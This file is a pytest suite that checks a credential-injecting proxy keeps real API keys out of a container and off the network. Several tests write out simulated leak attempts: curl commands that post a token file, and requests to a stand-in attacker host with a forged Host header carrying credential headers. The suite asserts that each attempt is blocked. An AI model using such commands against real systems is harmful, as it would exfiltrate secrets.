"""The credential-injecting proxy as a container sees it: a shell session in a real Docker container,
driven only through `clauderon send` and `clauderon screen`, curling fake HTTPS upstreams on loopback that
`proxy.toml` routes the real API host names to. The real credentials are random strings in the engine's
environment; the container only ever holds placeholders.

Each curl writes its body, headers and stderr into the session's worktree (the host reads them there, so
assertions see exactly what the container got) and prints `TAG=<status>/<connect status>` on the screen.
One home, engine and session serve the whole module; the tests run in file order.
"""

from __future__ import annotations

import base64
import gzip
import json
import re
import shutil
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from proxy import PLACEHOLDERS
from tests.cli_harness import Cli
from tests.conftest import TEST_AGENT_IMAGE, run_git
from tests.secret_scan import env_without_credentials, scan_tree
from tests.test_proxy_fixtures import FakeUpstream, closed_port, make_ca, make_leaf, random_secret

pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]

ROUTED = ("api.github.com", "github.com", "api.anthropic.com", "api.openai.com")
CLOSED_HOST = "closed.example.test"
UNLISTED_HOST = "unlisted.example.test"
ATTACKER_HOST = "attacker.example.test"  # routed to the recording upstream: whatever reaches it leaked
SESSION = "px"


@dataclass
class World:
    cli: Cli
    upstream: FakeUpstream
    upstream_port: int
    secrets: dict[str, str]
    worktree: Path
    out: Path
    tmp: Path

    def needles(self) -> dict[str, str]:
        basic = base64.b64encode(f"x-access-token:{self.secrets['GITHUB_TOKEN']}".encode()).decode()
        return {**self.secrets, "github basic": basic}

    def send(self, text: str) -> None:
        self.cli("send", SESSION, "--enter", text)

    def wait_regex(self, pattern: str, timeout: float = 60) -> re.Match:
        """Poll the screen until `pattern` matches (a deadline for slow machines, not a speed check)."""
        deadline = time.monotonic() + timeout
        screen = ""
        while time.monotonic() < deadline:
            screen = self.cli("screen", SESSION, check=False).out
            found = re.search(pattern, screen)
            if found:
                return found
            time.sleep(0.3)
        raise AssertionError(f"{pattern!r} never matched {SESSION}'s screen:\n{screen}")

    def curl(self, tag: str, args: str) -> Reply:
        """Run curl in the container; returns what it got (read from the worktree) and the status shown on screen."""
        self.send(f"curl -sS --max-time 20 -o /workspace/o/{tag}.body -D /workspace/o/{tag}.head "
                  f"-w '\\n{tag}=%{{http_code}}/%{{http_connect}}\\n' {args} 2>/workspace/o/{tag}.err")
        found = self.wait_regex(rf"\b{tag}=(\d{{3}})/(\d{{3}})")
        paths = {ext: self.out / f"{tag}.{ext}" for ext in ("body", "head", "err")}
        files = {ext: path.read_text(errors="replace") if path.exists() else "" for ext, path in paths.items()}
        reply = Reply(int(found.group(1)), int(found.group(2)), files["body"], files["head"], files["err"])
        self.assert_clean(reply.everything(), f"curl output of {tag}")
        return reply

    def seen(self, path: str):
        return [s for s in self.upstream.seen if s.path == path]

    def assert_clean(self, text: str, where: str) -> None:
        leaked = [label for label, value in self.needles().items() if value in text]
        assert not leaked, f"real credential value(s) {leaked} visible in {where}"


@dataclass
class Reply:
    status: int
    connect_status: int
    body: str
    head: str
    err: str

    def everything(self) -> str:
        return self.body + self.head + self.err

    def header(self, name: str) -> str | None:
        """A header of the final response (the CONNECT reply comes first in the dump)."""
        last = self.head.replace("\r\n", "\n").strip().split("\n\n")[-1]
        for line in last.split("\n")[1:]:
            key, _, value = line.partition(":")
            if key.strip().lower() == name.lower():
                return value.strip()
        return None


@pytest.fixture(scope="module")
def world():
    tmp = Path(tempfile.mkdtemp(prefix="cl-px-", dir="/tmp"))
    certs = tmp / "certs"
    certs.mkdir()
    ca_path, ca_key, ca_cert = make_ca(certs, "upstream-ca")
    upstream = FakeUpstream(*make_leaf(certs, ca_key, ca_cert, "upstream"))
    port = upstream.start()
    routes = {host: f"https://127.0.0.1:{port}" for host in ROUTED}
    routes[CLOSED_HOST] = f"https://127.0.0.1:{closed_port()}"
    routes[ATTACKER_HOST] = f"https://127.0.0.1:{port}"
    home = tmp / "home"
    cli = Cli(home, image=TEST_AGENT_IMAGE)
    (home / "proxy.toml").write_text(
        "[proxy]\n"
        'egress = "allowlist"\n'
        # 127.0.0.1 is allowlisted on purpose: the private-address check must refuse it on its own.
        f"allowlist = {json.dumps([*ROUTED, CLOSED_HOST, ATTACKER_HOST, '127.0.0.1'])}\n"
        f'upstream_ca_bundle = "{ca_path}"\n'
        'credential_set = ["anthropic_api_key", "openai_api_key"]\n'
        "[routes]\n" + "".join(f'"{h}" = "{u}"\n' for h, u in routes.items())
    )
    secrets = {"GITHUB_TOKEN": random_secret("ghp_"), "ANTHROPIC_API_KEY": random_secret("sk-ant-api03-"),
               "OPENAI_API_KEY": random_secret("sk-proj-")}
    cli.env = {**env_without_credentials(cli.env, tmp), **secrets}
    repo = tmp / "repo"
    repo.mkdir()
    run_git(repo, "init", "-q", "-b", "main")
    (repo / "README.md").write_text("hello\n")
    run_git(repo, "add", ".")
    run_git(repo, "commit", "-q", "-m", "initial")
    try:
        created = cli("create", "--repo", str(repo), "--name", SESSION, "--agent", "shell", "--json").json()
        worktree = Path(created["worktree_path"])
        out = worktree / "o"
        out.mkdir()
        out.chmod(0o777)
        w = World(cli, upstream, port, secrets, worktree, out, tmp)
        cli.wait_screen(SESSION, "/workspace")
        yield w
    finally:
        cli.cleanup()
        upstream.stop()
        shutil.rmtree(tmp, ignore_errors=True)


def test_container_holds_placeholders_only(world: World) -> None:
    world.send("echo GH=$GITHUB_TOKEN; echo OA=$OPENAI_API_KEY; echo PX=${HTTPS_PROXY%%:*}")
    world.wait_regex(r"GH=\S+")
    screen = world.wait_regex(r"PX=http\b").string
    assert f"GH={PLACEHOLDERS['github_token']}" in screen
    assert f"OA={PLACEHOLDERS['openai_api_key']}" in screen
    world.assert_clean(screen, "the screen")


@pytest.mark.parametrize("host, header, expected", [
    ("api.github.com", "authorization", lambda s: f"Bearer {s['GITHUB_TOKEN']}"),
    ("github.com", "authorization",
     lambda s: "Basic " + base64.b64encode(f"x-access-token:{s['GITHUB_TOKEN']}".encode()).decode()),
    ("api.anthropic.com", "x-api-key", lambda s: s["ANTHROPIC_API_KEY"]),
    ("api.openai.com", "authorization", lambda s: f"Bearer {s['OPENAI_API_KEY']}"),
])
def test_real_credential_injected_per_host(world: World, host: str, header: str, expected) -> None:
    tag = "I" + host.replace(".", "")
    path = f"/inject/{tag}"
    # the container sends its placeholder (as a real tool would); the proxy replaces it
    auth = {"api.anthropic.com": "-H \"x-api-key: $ANTHROPIC_API_KEY\"",
            "api.openai.com": "-H \"Authorization: Bearer $OPENAI_API_KEY\""}.get(
        host, "-H \"Authorization: Bearer $GITHUB_TOKEN\"")
    reply = world.curl(tag, f"{auth} https://{host}{path}")
    assert (reply.status, reply.connect_status) == (200, 200), reply.everything()
    assert json.loads(reply.body) == {"ok": True, "path": path}
    [seen] = world.seen(path)
    assert seen.headers[header] == expected(world.secrets)
    if host == "api.anthropic.com":
        assert "authorization" not in seen.headers  # the x-api-key rule drops a competing Authorization
    assert "proxy-authorization" not in seen.headers


def test_407_without_proxy_credentials(world: World) -> None:
    before = len(world.upstream.seen)
    reply = world.curl("N407", "--proxy \"http://127.0.0.1:${HTTPS_PROXY##*:}\" https://api.github.com/noauth")
    assert reply.connect_status == 407 and reply.status == 0, reply.everything()
    assert "407" in reply.err
    assert 'basic realm="clauderon"' in reply.head.lower()  # Proxy-Authenticate challenge
    assert len(world.upstream.seen) == before


def test_read_only_refuses_writes_live_and_back(world: World) -> None:
    world.cli("set-access-mode", SESSION, "read-only")
    refused = world.curl("RO1", "-X POST --data x=1 https://api.github.com/ro/post1")
    assert refused.status == 403
    assert "read-only" in refused.body and "POST" in refused.body and "read-write" in refused.body
    assert world.seen("/ro/post1") == []
    read = world.curl("RO2", "https://api.github.com/ro/get")
    assert read.status == 200 and [s.method for s in world.seen("/ro/get")] == ["GET"]
    world.cli("set-access-mode", SESSION, "read-write")
    allowed = world.curl("RO3", "-X POST --data x=2 https://api.github.com/ro/post2")
    assert allowed.status == 200
    [seen] = world.seen("/ro/post2")
    assert seen.method == "POST" and seen.body == b"x=2"


def test_unlisted_host_refused_by_allowlist(world: World) -> None:
    reply = world.curl("EG", f"https://{UNLISTED_HOST}/x")
    assert reply.connect_status == 403  # the tunnel itself is refused: no byte reaches the host
    reply = world.curl("EG2", f"http://{UNLISTED_HOST}/x")
    assert reply.status == 403
    assert UNLISTED_HOST in reply.body and "allowlist" in reply.body


def test_tripwire_refuses_a_real_credential_in_the_body(world: World) -> None:
    # Written from the host side, so the real value is never typed on the container's screen.
    leak = world.out / "leak.txt"
    leak.write_text(f"token={world.secrets['GITHUB_TOKEN']}\n")
    reply = world.curl("TW", "--data @/workspace/o/leak.txt https://api.github.com/trip")
    leak.unlink()
    assert reply.status == 403
    assert "real credential" in reply.body
    assert world.seen("/trip") == []


def test_tripwire_sees_through_content_encoding(world: World) -> None:
    # The same leak, gzip-compressed with `Content-Encoding: gzip`: the tripwire must look at what the
    # upstream would decode, not only at the compressed bytes.
    leak = world.out / "leak.gz"
    leak.write_bytes(gzip.compress(f"token={world.secrets['GITHUB_TOKEN']}\n".encode()))
    reply = world.curl("TZ", "-H 'Content-Encoding: gzip' --data-binary @/workspace/o/leak.gz https://api.github.com/trip-gz")
    leak.unlink()
    assert world.seen("/trip-gz") == []
    assert reply.status == 403
    assert "real credential" in reply.body


def test_loopback_target_without_a_route_refused(world: World) -> None:
    # Force curl through the proxy (NO_PROXY lists 127.0.0.1): the proxy must not reach loopback for it.
    reply = world.curl("LB", f"--noproxy '' --proxy \"$HTTPS_PROXY\" https://127.0.0.1:{world.upstream_port}/loop")
    assert reply.status == 403, reply.everything()
    assert "non-public" in reply.body and "route" in reply.body
    assert world.seen("/loop") == []


def test_closed_upstream_is_a_typed_502(world: World) -> None:
    world.send(f"curl -sS -i --max-time 20 https://{CLOSED_HOST}/down")
    screen = world.wait_regex(r"(?i)x-proxy-error-type:\s*CONNECTION_REFUSED").string
    assert re.search(r"HTTP/1\.1 502", screen), screen


def test_sse_streams_event_by_event(world: World) -> None:
    world.send("curl -N -sS --max-time 60 https://api.github.com/sse; echo SSE-END-$?")
    world.wait_regex(r"data: first")
    screen = world.cli("screen", SESSION).out
    assert "data: second" not in screen
    assert world.upstream.sse_released_by_client == []  # the upstream is still holding the second event
    world.upstream.sse_release.set()  # only now, after the container showed the first event
    world.wait_regex(r"data: second")
    world.wait_regex(r"SSE-END-0")
    assert world.upstream.sse_released_by_client == [True]
    [seen] = world.seen("/sse")
    assert seen.headers["authorization"] == f"Bearer {world.secrets['GITHUB_TOKEN']}"


def test_audit_names_credentials_and_reasons_never_values(world: World) -> None:
    lines = world.cli("audit", SESSION, "--limit", "1000", "--json").json()
    by_path = {(line["host"], line["path"]): line for line in lines}
    assert by_path[("api.github.com", "/inject/Iapigithubcom")]["credential"] == "github_token"
    assert by_path[("github.com", "/inject/Igithubcom")]["credential"] == "github_token"
    assert by_path[("api.anthropic.com", "/inject/Iapianthropiccom")]["credential"] == "anthropic_api_key"
    assert by_path[("api.openai.com", "/inject/Iapiopenaicom")]["credential"] == "openai_api_key"
    assert by_path[("api.github.com", "/ro/post1")]["blocked"] == "read_only"
    assert by_path[("api.github.com", "/ro/post2")]["blocked"] is None
    assert [(row["method"], row["blocked"]) for row in lines if row["host"] == UNLISTED_HOST] == [
        ("CONNECT", "egress"), ("GET", "egress")]
    # A tripped request's path is withheld (it may be what carried the value).
    assert [row["blocked"] for row in lines if row["path"] == "(withheld)"] == ["tripwire", "tripwire"]
    assert not [p for h, p in by_path if p.startswith("/trip")]
    assert by_path[("127.0.0.1", "/loop")]["blocked"] == "private_address"
    down = by_path[(CLOSED_HOST, "/down")]
    assert (down["blocked"], down["error_type"], down["status"]) == ("upstream_error", "CONNECTION_REFUSED", 502)
    assert by_path[("api.github.com", "/sse")]["status"] == 200
    # the failed proxy authentication has no session; it is in the unfiltered log
    everything = world.cli("audit", "--limit", "1000", "--json").json()
    assert any(row["blocked"] == "proxy_auth" and row["session"] is None and row["status"] == 407 for row in everything)
    world.assert_clean(world.cli("audit", "--limit", "1000", "--json").out, "clauderon audit")
    credentials = world.cli("credentials", "--json").out
    world.assert_clean(credentials, "clauderon credentials")
    # no file of the home outside secrets/ holds a value, nor does the worktree (the tripwire file is gone)
    hits = scan_tree(world.cli.home, world.needles(), exclude=["secrets"])
    assert hits == [], [str(h) for h in hits]
    assert scan_tree(world.worktree, world.needles()) == []


@pytest.mark.parametrize("url,host_header", [
    (f"http://{ATTACKER_HOST}/leak-plain", "api.anthropic.com"),
    (f"https://{ATTACKER_HOST}/leak-tls", "api.anthropic.com"),
    (f"http://{ATTACKER_HOST}/leak-github", "github.com"),
    (f"https://{ATTACKER_HOST}/leak-apigithub", "api.github.com"),
], ids=["plain", "tunnel", "plain-github", "tunnel-api-github"])
def test_a_forged_host_header_never_carries_a_real_key_elsewhere(world: World, url, host_header) -> None:
    """The review's attack, from inside the container: the URL names the attacker's (allowlisted) host,
    the Host header a model or GitHub host. Routing, policy and injection follow where the proxy really
    connects: 421, nothing forwarded, audited as blocked under the attacker's host."""
    world.cli("set-access-mode", SESSION, "read-write")
    tag = "H" + url.rsplit("/", 1)[1].replace("-", "")
    path = "/" + url.split("/", 3)[3]
    reply = world.curl(tag, f"-H 'Host: {host_header}' -H \"x-api-key: $ANTHROPIC_API_KEY\" "
                            f"-H \"Authorization: Bearer $GITHUB_TOKEN\" {url}")
    assert reply.status == 421, reply.everything()
    assert world.seen(path) == []
    lines = world.cli("audit", SESSION, "--limit", "1000", "--json").json()
    [line] = [row for row in lines if row["path"] == path]
    assert (line["host"], line["credential"], line["blocked"]) == (ATTACKER_HOST, None, "misdirected")
